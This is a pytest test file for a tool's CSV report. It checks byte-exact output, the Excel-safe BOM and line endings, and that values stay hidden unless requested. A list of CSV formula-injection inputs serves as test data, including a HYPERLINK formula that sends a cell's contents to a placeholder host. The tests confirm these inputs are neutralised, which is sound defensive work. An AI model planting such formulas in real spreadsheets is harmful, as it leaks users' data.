"""The CSV report: golden bytes, one line per match, Excel-safe cells, values only when asked."""

from __future__ import annotations

import csv
import io
import os
from dataclasses import replace
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from verifydel.report import SCANNED, SourceResult
from verifydel.report._matches import VALUE_PREFIX, attach_values, canonical_fields, ordered_matches
from verifydel.report.csv_report import CSV_COLUMNS, VALUE_COLUMNS, render_csv

GOLDEN_DIR = Path(__file__).parent / "golden"
#: Run with VERIFYDEL_UPDATE_GOLDEN=1 to rewrite the golden files on purpose (review the diff).
UPDATE_GOLDEN = os.environ.get("VERIFYDEL_UPDATE_GOLDEN") == "1"
BOM = "\ufeff"
#: What a spreadsheet would take for the start of a formula (and the apostrophe itself).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def reference_rows(report: Any, *, show_values: bool = False) -> list[dict[str, str]]:
    """The CSV rows the slow, obvious way: a Python dict per match."""
    matches = ordered_matches(report)
    value_fields: list[str] = []
    if show_values:
        matches, value_fields = attach_values(matches, report.values)
    rows = []
    for match in matches.iter_rows(named=True):
        row = {column: _cell(match.get(column)) for column in CSV_COLUMNS}
        for column in ("fields", "disagreed", "missing"):
            items = match.get(column)
            row[column] = "" if items is None else "+".join(canonical_fields(items))
        if show_values:
            for column in VALUE_COLUMNS:
                field = column.removeprefix("value_")
                value = match.get(VALUE_PREFIX + field) if field in value_fields else None
                row[column] = _cell(value) if field in (match["fields"] or []) else ""
        rows.append(row)
    return rows


@pytest.mark.parametrize(("golden", "show_values"), [("report.csv", False), ("report_show_values.csv", True)])
def test_matches_golden_file_byte_for_byte(samples: Any, golden: str, show_values: bool) -> None:
    rendered = render_csv(samples.sample_report(), show_values=show_values).encode("utf-8")
    path = GOLDEN_DIR / golden
    if UPDATE_GOLDEN:
        path.write_bytes(rendered)
        pytest.skip(f"rewrote {path.name}: review the diff, rerun without VERIFYDEL_UPDATE_GOLDEN")
    assert rendered == path.read_bytes()


def test_utf8_with_bom_crlf_and_one_line_per_match(samples: Any) -> None:
    report = samples.sample_report()
    data = render_csv(report).encode("utf-8")
    # The BOM: Excel on Japanese Windows reads a CSV without one as CP932 and garbles every path.
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    lines = data.decode("utf-8").split("\r\n")
    assert lines[-1] == "" and len(lines) - 2 == report.matches.height  # header, matches, final CRLF
    assert lines[0] == BOM + ",".join(CSV_COLUMNS)
    assert lines[1] == "顧客名簿/2023年 会員一覧.csv,3,,,C0000001,weak,address,,,"
    assert lines[4] == "顧客名簿/2023年 会員一覧.csv,12,,,C0000017,strong,name+phone,address,postal,"
    assert lines[6] == "メモ/問い合わせ.txt,,1088,,C0000003,weak,phone,,,"
    assert lines[8] == "app.sqlite!/members,,3320,12,C0000042,strong,name+address,,,true"


@pytest.mark.parametrize("values_in", ["frame", "column", "none"])
@pytest.mark.parametrize("show_values", [False, True])
def test_agrees_with_the_slow_reference(samples: Any, values_in: str, show_values: bool) -> None:
    report = samples.sample_report(values_in=values_in)
    assert _rows(render_csv(report, show_values=show_values)) == reference_rows(report, show_values=show_values)


def test_no_clear_value_without_show_values(samples: Any) -> None:
    report = samples.sample_report(values_in="column")
    text = render_csv(report)
    assert not any(value in text for value in samples.CLEAR_VALUES)
    assert "value_" not in text
    shown = render_csv(report, show_values=True)
    assert all(value in shown for value in samples.CLEAR_VALUES)
    assert _rows(shown)[0]["value_address"] == "大阪府見本市1-1"  # row 3 agrees on the address
    assert _rows(shown)[2]["value_name"] == ""  # row 12 with C0000009 agrees on the phone only


def test_same_report_gives_same_bytes_whatever_the_match_order(samples: Any) -> None:
    report = samples.sample_report()
    shuffled = replace(report, matches=report.matches.sample(fraction=1.0, shuffle=True, seed=3))
    assert render_csv(shuffled) == render_csv(report)


def test_an_empty_report_is_the_header_alone(samples: Any) -> None:
    report = samples.report_with([SourceResult(path="a.csv", kind="csv", status=SCANNED, rows=3)])
    assert render_csv(report) == BOM + ",".join(CSV_COLUMNS) + "\r\n"
    assert render_csv(report, show_values=True) == BOM + ",".join(CSV_COLUMNS + VALUE_COLUMNS) + "\r\n"


HOSTILE = [
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")",
    "+81-90",
    "-2+3",
    "@SUM(A1)",
    "\tlead",
    "\rlead",
    "'already",
    "a,b\"c\nd",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_attacker_named_members_cannot_become_formulas(samples: Any, hostile: str) -> None:
    path = f"{hostile}.zip!/{hostile}"
    sources = [SourceResult(path=path, kind="csv", status=SCANNED, rows=3)]
    report = samples.report_with(
        sources,
        [{"source": path, "row": 1, "record_id": hostile, "fields": ["phone"], "strength": "weak"}],
    )
    (row,) = _rows(render_csv(report))
    for column, value in (("source", path), ("record_id", hostile)):
        cell = row[column]
        assert not cell.startswith(FORMULA_STARTS[:-1])  # nothing a spreadsheet would evaluate
        assert cell == ("'" + value if value.startswith(FORMULA_STARTS) else value)
        assert cell.removeprefix("'") == value  # one apostrophe off: the value


def test_values_are_guarded_too(samples: Any) -> None:
    report = samples.sample_report()
    values = report.values
    assert values is not None
    report = replace(report, values=values.with_columns(pl.lit("=1+1").alias("address")))
    shown = _rows(render_csv(report, show_values=True))
    assert {row["value_address"] for row in shown} - {""} == {"'=1+1"}


#: Any text a polars string can hold (no lone surrogate).
TEXT = st.characters(exclude_categories=("Cs",))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    paths=st.lists(st.text(TEXT, min_size=1, max_size=12), min_size=1, max_size=4, unique=True),
    ids=st.lists(st.text(TEXT, max_size=8), min_size=1, max_size=6),
)
def test_any_paths_and_ids_survive_a_round_trip(samples: Any, paths: list[str], ids: list[str]) -> None:
    sources = [SourceResult(path=p, kind="csv", status=SCANNED, rows=9) for p in paths]
    matches = [
        {"source": paths[i % len(paths)], "row": i, "record_id": rid, "fields": ["phone"], "strength": "weak"}
        for i, rid in enumerate(ids)
    ]
    report = samples.report_with(sources, matches)
    assert _rows(render_csv(report)) == reference_rows(report)
